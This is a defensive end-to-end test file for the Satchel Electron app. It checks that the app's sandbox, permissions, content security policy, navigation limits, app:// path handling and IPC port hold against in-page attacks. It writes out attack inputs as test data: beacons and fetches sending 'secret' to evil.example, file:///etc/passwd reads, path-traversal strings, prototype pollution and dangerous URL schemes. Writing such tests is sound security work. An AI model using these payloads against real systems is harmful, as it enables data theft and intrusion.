import { execFileSync } from 'node:child_process'
import { cpSync, existsSync, readFileSync } from 'node:fs'
import { basename, dirname, join } from 'node:path'
import type { PlainSession, Session } from '../helpers/electron'
import {
  APP_DIR,
  electronPath,
  expect,
  launchSatchel,
  networkOf,
  spawnSatchel,
  tempDir,
  test,
} from '../helpers/electron'
import { commandLine, openServerSockets, processTree, statusOf } from '../helpers/process-tree'
import { inPage, RAW_PORT } from '../helpers/raw-port'

// One app is attacked by all tests of this file; what it did on the network is looked at in the end.
let session: Session

test.beforeAll(async () => {
  session = await launchSatchel()
  // What the page's console says about blocked attacks.
  session.allow(
    /Refused to|violates the following|Not allowed to|requires 'Trusted|Blocked|blocked|ERR_|net::/,
  )
  session.allow(/Permissions policy|not supported|webkitStorage|denied/i)
})

test.afterAll(async () => {
  await session.close()
})

test.beforeEach(async () => {
  await session.page.reload()
})

const webContentsCount = () =>
  session.app.evaluate(({ webContents }) => webContents.getAllWebContents().length)

const blocked = (what: string) =>
  session
    .logs()
    .filter((entry) => entry.message === 'Blocked' && entry.data?.['what'] === what)
    .map((entry) => entry.data?.['target'])

test.describe('what the page is given', () => {
  test('every WebContents has the strict preferences', async () => {
    const all = await session.app.evaluate(({ webContents }) =>
      webContents
        .getAllWebContents()
        .map((contents) =>
          (contents as unknown as { getLastWebPreferences(): unknown }).getLastWebPreferences(),
        ),
    )
    expect(all.length).toBeGreaterThan(0)
    for (const preferences of all) {
      expect(preferences).toMatchObject({
        sandbox: true,
        contextIsolation: true,
        nodeIntegration: false,
        nodeIntegrationInSubFrames: false,
        webSecurity: true,
        allowRunningInsecureContent: false,
        experimentalFeatures: false,
        webviewTag: false,
      })
      expect((preferences as { enableBlinkFeatures?: string }).enableBlinkFeatures ?? '').toBe('')
    }
  })

  test('the process of the page was started with what the preferences do not tell', async () => {
    const renderers = processTree(session.pid).filter((pid) => commandLine(pid).includes('--type=renderer'))
    expect(renderers.length).toBeGreaterThan(0)
    for (const pid of renderers) {
      expect(commandLine(pid)).toContain('--disable-blink-features=Auxclick')
      expect(commandLine(pid).join(' ')).not.toMatch(/--node-integration-in-worker|--enable-blink-features/)
    }
    expect(await session.app.evaluate(({ session }) => session.defaultSession.isSpellCheckerEnabled())).toBe(
      false,
    )
  })

  test('nothing of Node is in the page or in a frame of it', async () => {
    const types = await inPage(
      session.page,
      `const frame = document.body.appendChild(document.createElement('iframe'))
       const names = ['require', 'process', 'module', 'global', 'Buffer', 'electron', 'ipcRenderer', '__dirname']
       return [window, frame.contentWindow].map((w) => names.filter((name) => typeof w[name] !== 'undefined'))`,
    )
    expect(types).toEqual([[], []])
  })

  test('the page can start no worker of its own making', async () => {
    const answer = await inPage(
      session.page,
      `return new Promise((done) => {
         const url = URL.createObjectURL(new Blob(['postMessage(typeof require)']))
         const policy = trustedTypes.createPolicy('dompurify', { createScriptURL: (u) => u })
         const worker = new Worker(policy.createScriptURL(url))
         worker.onmessage = (event) => done('ran: ' + event.data)
         worker.onerror = () => done('refused')
       })`,
    )
    expect(answer).toMatch(/refused|threw SecurityError/)
  })

  test('window.satchel has two functions, and the page can not change them', async () => {
    const found = await inPage(
      session.page,
      `const before = window.satchel.connect
       try { window.satchel.connect = () => 'mine' } catch {}
       try { window.satchel = {} } catch {}
       return [Object.keys(window.satchel), window.satchel.connect === before, Object.isFrozen(window.satchel)]`,
    )
    expect(found).toEqual([['connect', 'getPathForFile'], true, true])
  })

  test('a page that has overwritten the built-in prototypes gets the same answers', async () => {
    const answer = await inPage(
      session.page,
      `${RAW_PORT}
       const stolen = []
       const spy = function (...args) { stolen.push(args); return 'polluted' }
       const { call, apply } = Function.prototype
       const { then } = Promise.prototype
       const { map } = Array.prototype
       Object.defineProperty(Object.prototype, 'ports', { get: spy, configurable: true })
       Object.defineProperty(Object.prototype, 'data', { value: { t: 'polluted' }, configurable: true })
       Function.prototype.call = Function.prototype.apply = spy
       Array.prototype.map = Promise.prototype.then = spy
       const { postMessage } = MessagePort.prototype
       MessagePort.prototype.postMessage = spy
       const port = await rawPort()
       const answer = await port.ask({ t: 'call', id: 7, name: 'no.such', input: {} })
       MessagePort.prototype.postMessage = postMessage
       Object.assign(Function.prototype, { call, apply })
       Promise.prototype.then = then
       Array.prototype.map = map
       delete Object.prototype.ports
       delete Object.prototype.data
       return { answer, stolen: stolen.length }`,
    )
    expect(answer).toMatchObject({ answer: { t: 'error', id: 7, error: { code: 'bad_input' } }, stolen: 0 })
  })
})

test.describe('permissions', () => {
  const names = [
    'accelerometer',
    'background-fetch',
    'background-sync',
    'camera',
    'clipboard-read',
    'display-capture',
    'geolocation',
    'gyroscope',
    'idle-detection',
    'local-fonts',
    'magnetometer',
    'microphone',
    'midi',
    'notifications',
    'payment-handler',
    'periodic-background-sync',
    'persistent-storage',
    'screen-wake-lock',
    'storage-access',
    'window-management',
  ]
  for (const name of names) {
    test(`${name} is denied`, async () => {
      const state = await inPage(
        session.page,
        `return (await navigator.permissions.query({ name: ${JSON.stringify(name)} })).state`,
      )
      expect(state).toMatch(/^(denied|threw TypeError)$/)
    })
  }

  const requests = [
    { name: 'notifications', code: 'return Notification.requestPermission()', says: /^denied$/ },
    {
      name: 'geolocation',
      code: 'return new Promise((d) => navigator.geolocation.getCurrentPosition(() => d("got it"), (e) => d("code " + e.code)))',
      says: /^code 1$/,
    },
    { name: 'camera', code: 'await navigator.mediaDevices.getUserMedia({ video: true })', says: /^threw/ },
    {
      name: 'microphone',
      code: 'await navigator.mediaDevices.getUserMedia({ audio: true })',
      says: /^threw/,
    },
    { name: 'screen', code: 'await navigator.mediaDevices.getDisplayMedia({ video: true })', says: /^threw/ },
    {
      name: 'reading the clipboard',
      code: 'return navigator.clipboard.readText()',
      says: /^threw NotAllowed/,
    },
    { name: 'MIDI', code: 'await navigator.requestMIDIAccess({ sysex: true })', says: /^threw/ },
    { name: 'USB', code: 'await navigator.usb.requestDevice({ filters: [] })', says: /^threw/ },
    {
      name: 'HID',
      code: 'return (await navigator.hid.requestDevice({ filters: [] })).length + " devices"',
      says: /^(threw|0 devices)/,
    },
    { name: 'serial', code: 'await navigator.serial.requestPort()', says: /^threw/ },
    {
      name: 'bluetooth',
      code: 'await navigator.bluetooth.requestDevice({ acceptAllDevices: true })',
      says: /^threw/,
    },
    { name: 'fonts', code: 'return (await queryLocalFonts()).length + " fonts"', says: /^(threw|0 fonts)/ },
  ]
  for (const { name, code, says } of requests) {
    test(`asking for ${name} is refused`, async () => {
      expect(await inPage(session.page, code)).toMatch(says)
    })
  }
})

test.describe('content security policy', () => {
  const attacks = [
    { name: 'eval', code: 'return eval("1")', says: 'threw EvalError' },
    { name: 'new Function', code: 'return new Function("return 1")()', says: 'threw EvalError' },
    { name: 'innerHTML (Trusted Types)', code: 'document.body.innerHTML = "<b>"', says: 'threw TypeError' },
    {
      name: 'srcdoc (Trusted Types)',
      code: 'document.createElement("iframe").srcdoc = "<b>"',
      says: 'threw TypeError',
    },
    {
      name: 'a policy of another name (Trusted Types)',
      code: 'trustedTypes.createPolicy("mine", { createHTML: (h) => h })',
      says: 'threw TypeError',
    },
    {
      name: 'fetch of another host',
      code: 'await fetch("https://evil.example/?q=secret")',
      says: 'threw TypeError',
    },
    { name: 'fetch of a file', code: 'await fetch("file:///etc/passwd")', says: 'threw TypeError' },
    {
      name: 'fetch of another app host',
      code: 'await fetch("app://other/index.html")',
      says: 'threw TypeError',
    },
    {
      name: 'XMLHttpRequest of a file',
      code: `return new Promise((d) => { const x = new XMLHttpRequest(); x.onload = () => d('loaded'); x.onerror = () => d('error'); x.open('GET', 'file:///etc/passwd'); x.send() })`,
      says: 'error',
    },
    {
      name: 'EventSource',
      code: 'return new Promise((d) => { const e = new EventSource("https://evil.example/"); e.onerror = () => { e.close(); d("error") } })',
      says: 'error',
    },
    {
      name: 'an image of the disk',
      code: 'return new Promise((d) => { const i = new Image(); i.onload = () => d("loaded"); i.onerror = () => d("error"); i.src = "file:///etc/passwd" })',
      says: 'error',
    },
    {
      name: 'a service worker',
      code: 'await navigator.serviceWorker.register("/sw.js")',
      says: 'threw TypeError',
    },
  ]
  for (const { name, code, says } of attacks) {
    test(`stops ${name}`, async () => {
      expect(await inPage(session.page, code)).toBe(says)
    })
  }

  const elements = [
    {
      name: 'an inline script',
      code: `add('script', { nonce: '' }, policy.createScript('globalThis.pwned = 1'))`,
      rule: 'script-src-elem',
    },
    {
      name: 'a remote script',
      code: `add('script', { src: policy.createScriptURL('https://evil.example/x.js') })`,
      rule: 'script-src-elem',
    },
    {
      name: 'an inline handler',
      code: `add('img', { src: 'data:,' }).setAttribute('onerror', policy.createScript('globalThis.pwned = 1'))`,
      rule: 'script-src-attr',
    },
    {
      name: 'a remote image',
      code: `add('img', { src: 'https://evil.example/?q=secret' })`,
      rule: 'img-src',
    },
    { name: 'a remote frame', code: `add('iframe', { src: 'https://evil.example/' })`, rule: 'frame-src' },
    {
      name: 'a frame of data',
      code: `add('iframe', { src: 'data:text/html,<script>1</script>' })`,
      rule: 'frame-src',
    },
    { name: 'a frame of our own page', code: `add('iframe', { src: '/index.html' })`, rule: 'frame-src' },
    {
      name: 'an object',
      code: `add('object', { data: policy.createScriptURL('https://evil.example/x.swf') })`,
      rule: 'object-src',
    },
    {
      name: 'a remote style',
      code: `add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })`,
      rule: 'style-src-elem',
    },
    {
      name: 'a remote import of a style',
      code: `add('style', {}, '@import url(https://evil.example/x.css)')`,
      rule: 'style-src-elem',
    },
    {
      name: 'a remote url of a style',
      code: `add('style', {}, 'body { background: url(https://evil.example/x.png) }')`,
      rule: 'img-src',
    },
    {
      name: 'a remote font',
      code: `add('style', {}, '@font-face { font-family: e; src: url(https://evil.example/f) } body { font-family: e }'); document.body.append('x')`,
      rule: 'font-src',
    },
    {
      name: 'a form',
      code: `const f = add('form', { action: 'https://evil.example/', method: 'post' }); f.submit()`,
      rule: 'form-action',
    },
    { name: 'a base address', code: `add('base', { href: 'https://evil.example/' })`, rule: 'base-uri' },
    {
      name: 'a prefetch',
      code: `add('link', { rel: 'prefetch', href: 'https://evil.example/p' })`,
      rule: 'default-src',
    },
    {
      name: 'a beacon',
      code: `navigator.sendBeacon('https://evil.example/b', 'secret')`,
      rule: 'connect-src',
    },
    {
      name: 'a WebSocket',
      code: `try { new WebSocket('wss://evil.example/') } catch {}`,
      rule: 'connect-src',
    },
    { name: 'a video', code: `add('video', { src: 'https://evil.example/v' })`, rule: 'media-src' },
  ]
  for (const { name, code, rule } of elements) {
    test(`stops ${name} by ${rule}`, async () => {
      const answer = await inPage(
        session.page,
        `const policy = trustedTypes.createPolicy('dompurify', { createScript: (s) => s, createScriptURL: (s) => s })
         const add = (name, properties, text) => {
           const element = Object.assign(document.createElement(name), properties)
           if (text) element.append(text)
           if (text && name === 'script') element.textContent = text
           return document.body.appendChild(element)
         }
         const violation = new Promise((done) => document.addEventListener('securitypolicyviolation', done, { once: true }))
         ${code}
         return { rule: (await violation).effectiveDirective, pwned: globalThis.pwned ?? null }`,
      )
      expect(answer).toEqual({ rule, pwned: null })
    })
  }

  test('names that a page can ask for without a request are not resolved', async () => {
    const asked = await inPage(
      session.page,
      `for (const rel of ['dns-prefetch', 'preconnect']) {
         document.head.append(Object.assign(document.createElement('link'), { rel, href: 'https://secret.' + rel + '.evil.example' }))
       }
       const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:secret.stun.evil.example:3478' }] })
       connection.createDataChannel('x')
       await connection.setLocalDescription(await connection.createOffer())
       await new Promise((done) => {
         connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && done()
         if (connection.iceGatheringState === 'complete') done()
       })
       connection.close()
       return 'asked'`,
    )
    expect(asked).toBe('asked')
    // What came of it is looked at in the last test, when the record of the network is complete.
  })
})

test.describe('leaving the page', () => {
  const targets = [
    'https://evil.example/',
    'http://127.0.0.1:1/',
    'file:///etc/passwd',
    'javascript:globalThis.pwned=1',
    'data:text/html,<b>x</b>',
    'app://other/index.html',
    'app://bundle/other.html',
    'satchel://skill/install?source=https://evil.example',
  ]
  for (const target of targets) {
    test(`${target} is not navigated to, by address, link or window.open`, async () => {
      const { page } = session
      await page.evaluate('globalThis.mark = "same page"')
      const opened = await inPage(
        page,
        `const url = ${JSON.stringify(target)}
         const link = document.body.appendChild(Object.assign(document.createElement('a'), { href: url, textContent: 'x' }))
         const attempt = (act) => { try { return act() } catch { return null } }
         attempt(() => link.click())
         link.target = '_blank'
         attempt(() => link.click())
         attempt(() => link.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true })))
         const window1 = attempt(() => window.open(url))
         const window2 = attempt(() => window.open(url, '_top'))
         attempt(() => { location.href = url })
         return [window1 === null, window2 === null || window2 === window]`,
      )
      expect(opened).toEqual([true, true])
      // Both processes have worked off what was begun.
      await session.app.evaluate(({ webContents }) =>
        webContents.getAllWebContents().map((each) => each.getURL()),
      )
      expect(await inPage(page, 'return [location.href, globalThis.mark, globalThis.pwned ?? null]')).toEqual(
        ['app://bundle/index.html', 'same page', null],
      )
      expect(await webContentsCount()).toBe(1)
    })
  }

  for (const target of ['about:blank', 'about:srcdoc']) {
    test(`after ${target}, for which Electron asks nobody, the page is brought back`, async () => {
      await session.page.evaluate('globalThis.mark = "the page before"')
      await session.page.evaluate(`void setTimeout(() => { location.href = ${JSON.stringify(target)} })`)
      const state = () =>
        session.app.evaluate(
          ({ webContents }) =>
            webContents
              .getAllWebContents()[0]!
              .executeJavaScript(
                '[location.href, typeof globalThis.mark, typeof satchel.connect].join()',
              ) as Promise<string>,
        )
      await expect.poll(state).toBe('app://bundle/index.html,undefined,function')
      expect(blocked('navigation')).toContain('about:')
    })
  }

  test('a refused navigation stands in the log without its path', async () => {
    await inPage(session.page, `location.href = 'https://logged.example/?secret'`)
    await expect.poll(() => blocked('navigation')).toContain('https://logged.example')
    expect(readFileSync(join(session.dataDir, 'logs', 'satchel.log'), 'utf8')).not.toContain('?secret')
  })

  test('a webview is an unknown element', async () => {
    const found = await inPage(
      session.page,
      `const view = document.createElement('webview')
       view.src = 'https://evil.example/'
       document.body.append(view)
       return [view.constructor.name, view.shadowRoot, typeof view.loadURL]`,
    )
    expect(found).toEqual([expect.stringMatching(/^HTML(Unknown)?Element$/), null, 'undefined'])
    expect(await webContentsCount()).toBe(1)
  })

  test('a download is refused', async () => {
    await inPage(
      session.page,
      `const link = Object.assign(document.createElement('a'), { href: 'data:,x', download: 'x.sh' })
       document.body.append(link)
       link.click()`,
    )
    await expect.poll(() => blocked('download')).toContain('data:')
  })
})

test.describe('the second wall', () => {
  const addresses = ['https://evil.example/x', 'http://127.0.0.1:1/', 'ws://evil.example/']
  for (const address of addresses) {
    test(`${address} is stopped in the session even where no policy of a page applies`, async () => {
      const answer = await session.app.evaluate(
        ({ session }, url) =>
          session.defaultSession.fetch(url).then(
            (response) => `answered ${response.status}`,
            (error: Error) => error.message,
          ),
        address,
      )
      expect(answer).toMatch(/ERR_BLOCKED_BY_CLIENT|ERR_UNKNOWN_URL_SCHEME|scheme|not supported/i)
    })
  }

  test('file: answers nothing, whoever asks', async () => {
    const status = await session.app.evaluate(
      async ({ session }) => (await session.defaultSession.fetch('file:///etc/passwd')).status,
    )
    expect(status).toBe(403)
  })

  test('the person is told of a request that was stopped', async () => {
    await inPage(
      session.page,
      `${RAW_PORT} const port = await rawPort(); globalThis.notice = port.ask({ t: 'open', id: 1, name: 'events', input: {} })
       await window.satchel`,
    )
    const told = session.page.evaluate<{ value: unknown }>('globalThis.notice')
    await session.app.evaluate(({ session }) =>
      session.defaultSession.fetch('https://told.example/').catch(() => 0),
    )
    expect((await told).value).toEqual({
      t: 'notice',
      level: 'warning',
      message: 'Satchel blocked a hidden request to https://told.example.',
    })
  })
})

test.describe('app://', () => {
  const paths = [
    { path: '..%2f..%2fpackage.json', status: 400 },
    { path: '%2e%2e/%2e%2e/package.json', status: 404 },
    { path: 'assets/..%5c..%5cpackage.json', status: 400 },
    { path: 'index.html%00.png', status: 400 },
    { path: '/etc/passwd', status: 400 },
    { path: '%2fetc/passwd', status: 400 },
    { path: 'etc/passwd', status: 404 },
    { path: '%E0%A4%A', status: 400 },
    { path: 'assets/', status: 404 },
    { path: '__proto__', status: 404 },
    { path: 'index.html.map', status: 404 },
  ]
  for (const { path, status } of paths) {
    test(`${path} is answered with ${status}`, async () => {
      const answer = await inPage(
        session.page,
        `const response = await fetch('app://bundle/' + ${JSON.stringify(path)}); return [response.status, await response.text()]`,
      )
      expect(answer).toEqual([status, ''])
    })
  }

  test('every answer carries the policy', async () => {
    const headers = await inPage<Record<string, string>>(
      session.page,
      `return Object.fromEntries((await fetch('/index.html')).headers)`,
    )
    expect(headers['content-security-policy']).toContain("default-src 'none'; script-src 'self';")
    expect(headers['content-security-policy']).toContain("require-trusted-types-for 'script'")
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'cross-origin-opener-policy': 'same-origin',
    })
  })

  test('only GET is answered', async () => {
    const status = await inPage(
      session.page,
      `return (await fetch('/index.html', { method: 'POST' })).status`,
    )
    expect(status).toBe(405)
  })
})

test.describe('opening addresses outside', () => {
  const openExternal = (url: string) =>
    inPage<{ t: string; error?: { code: string } }>(
      session.page,
      `${RAW_PORT} const port = await rawPort()
       return port.ask({ t: 'call', id: 1, name: 'desktop.openExternal', input: { url: ${JSON.stringify(url)} } })`,
    )
  const opened = () =>
    session.app.evaluate(() => (globalThis as unknown as { opened?: string[] }).opened ?? [])

  test.beforeEach(async () => {
    await session.app.evaluate(({ shell }) => {
      const urls: string[] = []
      Object.assign(globalThis, { opened: urls })
      shell.openExternal = (url) => {
        urls.push(url)
        return Promise.resolve()
      }
    })
  })

  const refused = [
    'file:///etc/passwd',
    'smb://host/share',
    '\\\\host\\share',
    'ms-msdt:/id',
    'javascript:alert(1)',
    'vbscript:x',
    'data:text/html,x',
    'calculator:',
    'x-apple.systempreferences:',
    'satchel://x',
    'https://user:pass@evil.example/',
    'https:/\tevil.example',
    'mailto:a@b.example?attach=/etc/passwd',
    `https://evil.example/?${'q'.repeat(3000)}`,
  ]
  for (const url of refused) {
    test(`${url.slice(0, 60)} is refused`, async () => {
      expect(await openExternal(url)).toMatchObject({ t: 'error', error: { code: 'bad_input' } })
      expect(await opened()).toEqual([])
    })
  }

  test('an https address is opened, and a second one within a second is not', async () => {
    const answers = await inPage<{ t: string }[]>(
      session.page,
      `${RAW_PORT} const port = await rawPort()
       const ask = (id, url) => port.ask({ t: 'call', id, name: 'desktop.openExternal', input: { url } })
       return [await ask(1, 'https://docs.example/'), await ask(2, 'https://docs.example/2')]`,
    )
    expect(answers).toMatchObject([{ t: 'result' }, { t: 'error', error: { code: 'busy' } }])
    expect(await opened()).toEqual(['https://docs.example/'])
  })
})

test.describe('the port', () => {
  const ask = (message: string) =>
    inPage<{ t: string; id: number; error?: { code: string; message: string } }>(
      session.page,
      `${RAW_PORT} const port = await rawPort(); return port.ask(${message})`,
    )
  const stillAnswers = async () =>
    expect(await ask(`{ t: 'call', id: 99, name: 'settings.get', input: {} }`)).toMatchObject({
      t: 'result',
      id: 99,
    })

  const bad = [
    {
      name: 'an unknown name',
      message: `{ t: 'call', id: 1, name: 'shell.exec', input: {} }`,
      code: 'bad_input',
    },
    {
      name: '__proto__ as a name',
      message: `{ t: 'call', id: 1, name: '__proto__', input: {} }`,
      code: 'bad_input',
    },
    {
      name: 'constructor as a name',
      message: `{ t: 'call', id: 1, name: 'constructor', input: {} }`,
      code: 'bad_input',
    },
    {
      name: 'a stream asked for as a call',
      message: `{ t: 'call', id: 1, name: 'events', input: {} }`,
      code: 'bad_input',
    },
    {
      name: 'extra keys',
      message: `{ t: 'call', id: 1, name: 'settings.set', input: { theme: 'dark', evil: 1 } }`,
      code: 'bad_input',
    },
    {
      name: 'prototype keys',
      message: `{ t: 'call', id: 1, name: 'settings.set', input: JSON.parse('{"__proto__":{"theme":"dark"},"constructor":1}') }`,
      code: 'bad_input',
    },
    {
      name: 'NaN',
      message: `{ t: 'call', id: 1, name: 'audit.query', input: { limit: NaN } }`,
      code: 'bad_input',
    },
    {
      name: 'Infinity',
      message: `{ t: 'call', id: 1, name: 'audit.query', input: { limit: Infinity } }`,
      code: 'bad_input',
    },
    { name: 'no input', message: `{ t: 'call', id: 1, name: 'skills.get', input: null }`, code: 'bad_input' },
    {
      name: '10 MB',
      message: `{ t: 'call', id: 1, name: 'sessions.send', input: { sessionId: 'a', text: 'x'.repeat(10_000_000) } }`,
      code: 'too_large',
    },
  ]
  for (const { name, message, code } of bad) {
    test(`${name} is answered with ${code}, and main goes on`, async () => {
      expect(await ask(message)).toMatchObject({ id: 1, error: { code } })
      await stillAnswers()
    })
  }

  test('what is no request at all is dropped, and main goes on', async () => {
    const answer = await ask(`(() => {
      for (const junk of [null, 7, 'x', [], {}, { t: 'call' }, { t: 'call', id: 1, name: 'settings.get', input: {}, evil: 1 },
        { t: 'credit', id: 1, n: 1e9 }, { t: 'close', id: -1 }, new Date(), new Map([[1, 2]])]) {
        try { port.post(junk) } catch {}
      }
      return { t: 'call', id: 5, name: 'settings.get', input: {} }
    })()`)
    expect(answer).toMatchObject({ t: 'result', id: 5 })
  })

  test('a flood is answered with busy, every request of it', async () => {
    const counts = await inPage<{ result: number; busy: number }>(
      session.page,
      `${RAW_PORT} const port = await rawPort()
       const counts = { result: 0, busy: 0 }
       for (let id = 1; id <= 3000; id += 1) port.post({ t: 'call', id, name: 'settings.get', input: {} })
       for (let id = 1; id <= 3000; id += 1) {
         const answer = await port.next()
         counts[answer.t === 'result' ? 'result' : answer.error.code] += 1
       }
       return counts`,
    )
    expect(counts.result + counts.busy).toBe(3000)
    expect(counts.busy).toBeGreaterThan(0)
    expect(counts.result).toBeGreaterThanOrEqual(500)
  })

  test('asking for a second port closes the first', async () => {
    const states = await inPage(
      session.page,
      `${RAW_PORT}
       const first = await rawPort()
       const second = await rawPort()
       const answer = await second.ask({ t: 'call', id: 1, name: 'settings.get', input: {} })
       return [first.isClosed(), second.isClosed(), answer.t]`,
    )
    expect(states).toEqual([true, false, 'result'])
  })

  test('a frame in the page has no bridge', async () => {
    const type = await inPage(
      session.page,
      `const frame = document.body.appendChild(document.createElement('iframe'))
       return typeof frame.contentWindow.satchel`,
    )
    expect(type).toBe('undefined')
  })

  const strangers = ['no frame', 'a sub frame', 'another WebContents'] as const
  for (const stranger of strangers) {
    test(`main gives no port to ${stranger}`, async () => {
      const closed = await session.app.evaluate(({ ipcMain, webContents }, who) => {
        const sender = webContents.getAllWebContents()[0]!
        const frame = { origin: 'app://bundle', url: 'app://bundle/index.html' }
        const port = {
          isClosed: false,
          close: () => void (port.isClosed = true),
          on() {},
          start() {},
          postMessage() {},
        }
        ipcMain.emit('satchel:connect', {
          sender: who === 'another WebContents' ? { id: -1, mainFrame: sender.mainFrame } : sender,
          senderFrame: who === 'no frame' ? null : who === 'a sub frame' ? { ...frame } : sender.mainFrame,
          ports: [port],
        })
        return port.isClosed
      }, stranger)
      expect(closed).toBe(true)
    })
  }
})

test('no process of the app listens on a socket', async () => {
  const plain = spawnSatchel()
  await windowIsOpen(plain.dataDir)
  const pids = processTree(plain.child.pid!)
  expect(pids.length).toBeGreaterThan(2)

  expect(openServerSockets(pids)).toEqual([])

  plain.child.kill('SIGTERM')
  expect(await plain.exited).toBe(0)
  expect(networkOf(plain)).toEqual({ requests: [], names: [], dnsQueries: 0, connections: [] })
})

test('as another user than root the window opens inside the Chromium sandbox', async () => {
  const isRoot = process.getuid?.() === 0
  test.skip(isRoot && !existsSync('/usr/bin/setpriv'), 'setpriv is missing: root can not become another user')
  const plain = isRoot ? spawnAsNobody() : spawnSatchel()
  await windowIsOpen(plain.dataDir)

  const renderers = processTree(plain.child.pid!).filter((pid) =>
    commandLine(pid).includes('--type=renderer'),
  )
  expect(renderers.length).toBeGreaterThan(0)
  for (const pid of renderers) {
    expect(commandLine(pid)).not.toContain('--no-sandbox')
    expect(statusOf(pid, 'Seccomp')).toBe('2')
    expect(statusOf(pid, 'NoNewPrivs')).toBe('1')
    expect(statusOf(pid, 'Uid')).not.toMatch(/^0\b/)
  }
  plain.child.kill('SIGTERM')
  expect(await plain.exited).toBe(0)
})

test('after all of this the app was on no network and asked for no name', async () => {
  await session.close()
  expect(networkOf(session)).toEqual({ requests: [], names: [], dnsQueries: 0, connections: [] })
  expect(session.problems()).toEqual([])
})

/** Runtime and app are copied, because they may lie where only root can read. */
function spawnAsNobody(): PlainSession {
  const home = tempDir()
  const runtime = join(home, 'runtime')
  const appDir = join(home, 'app')
  cpSync(dirname(electronPath()), runtime, { recursive: true })
  const natives = ['better-sqlite3', 'node-pty', '@lydell'].map((name) => join('node_modules', name))
  for (const part of ['package.json', 'out', 'resources', ...natives]) {
    cpSync(join(APP_DIR, part), join(appDir, part), { recursive: true, dereference: true })
  }
  execFileSync('chown', ['-R', '65534:65534', home])
  return spawnSatchel({
    home,
    appDir,
    electron: join(runtime, basename(electronPath())),
    electronArgs: ['--disable-setuid-sandbox'],
    wrap: ['/usr/bin/setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'],
  })
}

function windowIsOpen(dataDir: string): Promise<void> {
  const file = join(dataDir, 'logs', 'satchel.log')
  return expect
    .poll(() => (existsSync(file) ? readFileSync(file, 'utf8') : ''), { timeout: 30_000 })
    .toContain('The window is open')
}
